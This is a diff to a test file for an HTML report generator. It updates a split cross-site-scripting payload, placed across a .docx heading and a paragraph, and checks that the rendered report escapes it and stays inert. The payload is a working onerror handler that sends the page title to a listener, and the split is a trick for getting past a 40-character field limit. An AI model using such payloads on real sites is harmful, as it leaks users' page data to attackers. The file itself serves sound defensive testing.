@@ -70,10 +70,14 @@ function payloads(): string[] {
   ]
 }
 
-/** The two 40-character halves of the issue's attack: a .docx heading and a paragraph opening that together make an inline handler. */
+/**
+ * The two halves of the issue's attack: a .docx heading and a paragraph opening, each within the
+ * 40 characters a place shows of them, that together make an inline handler sending the page
+ * away. On 032aa41 the report opened this way requests the listener with the report's title.
+ */
 function placePayload(): {heading: string; paragraph: string} {
-  const heading = `<svg onload="ran=5;location='http://127.1:'+/*`.slice(0, 40)
-  const paragraph = `*/${port}+'/'+document.body.innerText"> We will signpost residents to advice.`
+  const heading = `<img src onerror="location='http://'+/*`
+  const paragraph = `*/'127.1:${port}/'+document.title"> We will signpost residents to advice.`
   return {heading, paragraph}
 }
 
@@ -159,8 +163,9 @@ describe('the HTML report', () => {
     const report = await readFile(path.join(made.dir, 'report.html'), 'utf8')
     expectContained(run, report)
     expect(run.code).toBe(0)
-    expect(report).not.toContain('<svg onload')
-    expect(report).toContain('&lt;svg onload=&quot;ran=5;')
+    expect(report).not.toContain('<img src onerror')
+    expect(heading.length).toBeLessThanOrEqual(40)
+    expect(report).toContain('&lt;img src onerror=&quot;location=')
     const opened = await openPage(path.join(made.dir, 'report.html'))
     await clickAround(opened.page)
     await expectInert(opened, path.join(made.dir, 'report.html'))
